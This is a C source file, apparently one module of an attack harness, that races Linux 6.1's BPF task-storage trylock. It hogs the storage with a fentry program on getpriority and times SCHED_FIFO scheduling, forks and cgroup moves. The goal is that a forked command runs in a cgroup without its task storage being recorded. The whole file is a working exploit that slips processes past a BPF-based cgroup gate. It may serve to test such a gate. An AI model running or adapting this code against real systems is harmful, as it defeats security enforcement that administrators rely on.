/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * busy.c - becoming a process of a unit while task storage is in use on the processor: Linux 6.1 keeps nobody's storage
 * then, and finds none (bpf_task_storage_trylock(), kernel/bpf/bpf_task_storage.c).
 */
#include "attack.h"

#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define USES 2000 /* of task storage, one after another, in one run of the program */
#define PER_USE 6
#define PARTS 60000
#define TRIES 24

/* Task storage takes types for key and value. */
static int make_storage(void)
{
	LIBBPF_OPTS(bpf_map_create_opts, opts, .map_flags = BPF_F_NO_PREALLOC);
	struct btf *btf = btf__new_empty();

	if (!btf)
		return -errno;
	opts.btf_key_type_id = (unsigned)btf__add_int(btf, "int", 4, BTF_INT_SIGNED);
	opts.btf_value_type_id = (unsigned)btf__add_int(btf, "long", 8, BTF_INT_SIGNED);
	if (btf__load_into_kernel(btf))
		return -errno;
	opts.btf_fd = (unsigned)btf__fd(btf);
	return bpf_map_create(BPF_MAP_TYPE_TASK_STORAGE, "busy", 4, 8, 0, &opts);
}

/* Each getpriority(2) of whoever calls it is a time in which it is at work on its task storage. */
static int attach_program(void)
{
	static struct bpf_insn insns[2 + USES * PER_USE + 2];
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = BPF_TRACE_FENTRY);
	struct btf *vmlinux = btf__load_vmlinux_btf();
	int map = make_storage(), n = 0, fd;

	if (!vmlinux || map < 0)
		return -errno;
	insns[n++] = (struct bpf_insn){ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_get_current_task_btf };
	insns[n++] = (struct bpf_insn){ .code = BPF_ALU64 | BPF_MOV | BPF_X, .dst_reg = 6 };
	for (int i = 0; i < USES; i++) {
		insns[n++] = (struct bpf_insn){
			.code = BPF_LD | BPF_DW | BPF_IMM,
			.dst_reg = 1,
			.src_reg = BPF_PSEUDO_MAP_FD,
			.imm = map,
		};
		insns[n++] = (struct bpf_insn){ 0 };
		insns[n++] = (struct bpf_insn){ .code = BPF_ALU64 | BPF_MOV | BPF_X, .dst_reg = 2, .src_reg = 6 };
		insns[n++] = (struct bpf_insn){ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 3 };
		insns[n++] = (struct bpf_insn){ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 4, .imm = 1 };
		insns[n++] = (struct bpf_insn){ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_task_storage_get };
	}
	insns[n++] = (struct bpf_insn){ .code = BPF_ALU64 | BPF_MOV | BPF_K };
	insns[n++] = (struct bpf_insn){ .code = BPF_JMP | BPF_EXIT };
	opts.attach_btf_id = (unsigned)btf__find_by_name_kind(vmlinux, "__x64_sys_getpriority", BTF_KIND_FUNC);
	fd = bpf_prog_load(BPF_PROG_TYPE_TRACING, "busy", "GPL", insns, (size_t)n, &opts);
	return fd < 0 || bpf_raw_tracepoint_open(NULL, fd) < 0 ? -errno : 0;
}

static void stay_on(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	(void)sched_setaffinity(0, sizeof(set), &set);
}

/* So many parts that copying them takes a second. */
static void grow(void)
{
	const size_t page = 4096;
	char *m = mmap(NULL, PARTS * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	for (size_t i = 0; m != MAP_FAILED && i < PARTS; i += 2)
		if (mprotect(m + i * page, page, PROT_READ))
			break;
}

static void move(const char *cgroup, pid_t pid)
{
	char path[512], id[16];

	(void)snprintf(path, sizeof(path), "/sys/fs/cgroup/%s", cgroup);
	(void)mkdir(path, 0755);
	(void)snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/cgroup.procs", cgroup);
	(void)snprintf(id, sizeof(id), "%d", pid);
	(void)write_file(path, id);
}

static pid_t keep_busy(void)
{
	pid_t pid = fork();

	if (!pid) {
		stay_on(0);
		for (;;)
			(void)getpriority(PRIO_PROCESS, 0);
	}
	return pid;
}

/* Moves the process while it forks. Who was interrupted holds up RCU, and that the move: he ends first. */
static void move_later(const char *cgroup, pid_t pid, pid_t busy, int told)
{
	char c;

	stay_on(1);
	(void)!read(told, &c, 1);
	(void)usleep(20000);
	(void)sched_setscheduler(pid, SCHED_OTHER, &(struct sched_param){ 0 });
	(void)kill(busy, SIGKILL);
	move(cgroup, pid);
	_exit(0);
}

static int try_once(char **argv)
{
	struct sched_param first = { .sched_priority = 50 };
	pid_t me = getpid(), busy = keep_busy(), mover, child;
	int pipes[2], status = -1;

	if (busy < 0 || pipe2(pipes, O_CLOEXEC))
		return -errno;
	mover = fork();
	if (!mover)
		move_later(argv[0], me, busy, pipes[0]);
	stay_on(0);
	(void)sched_setscheduler(0, SCHED_FIFO, &first);
	(void)usleep(200000);
	(void)!write(pipes[1], "x", 1);
	child = fork();
	if (!child) {
		(void)sched_setscheduler(0, SCHED_OTHER, &(struct sched_param){ 0 });
		(void)usleep(300000);
		execvp(argv[1], argv + 1);
		_exit(127);
	}
	(void)sched_setscheduler(0, SCHED_OTHER, &(struct sched_param){ 0 });
	(void)kill(busy, SIGKILL);
	if (child > 0)
		(void)waitpid(child, &status, 0);
	(void)waitpid(mover, NULL, 0);
	(void)waitpid(busy, NULL, 0);
	return child > 0 && WIFEXITED(status) && !WEXITSTATUS(status) ? 0 : -EACCES;
}

/* Each try takes a process that has no storage: one that was there before the gate. */
static int unit_fork_busy(int argc, char **argv)
{
	pid_t tries[TRIES];
	int r = -EACCES;

	if (argc < 4)
		return -EINVAL;
	for (int i = 0; i < TRIES; i++) {
		tries[i] = fork();
		if (tries[i])
			continue;
		grow();
		raise(SIGSTOP);
		_exit(try_once(argv + 2) ? 1 : 0);
	}
	for (int i = 0; i < TRIES; i++)
		(void)waitpid(tries[i], NULL, WUNTRACED);
	close(open(argv[0], O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
	while (access(argv[1], F_OK))
		(void)usleep(100000);
	r = attach_program();
	for (int i = 0; i < TRIES; i++) {
		int status = 1;

		(void)kill(tries[i], r ? SIGKILL : SIGCONT);
		(void)waitpid(tries[i], &status, 0);
		if (!r && WIFEXITED(status) && !WEXITSTATUS(status)) {
			while (++i < TRIES)
				(void)kill(tries[i], SIGKILL);
			return 0;
		}
	}
	return r ? r : -EACCES;
}

const struct attack attacks_busy[] = {
	{ "unit-fork-busy", unit_fork_busy,
	  "READY GO CGROUP COMMAND...: is there now, and forks while it is moved and task storage is in use" },
	{ NULL, NULL, NULL },
};
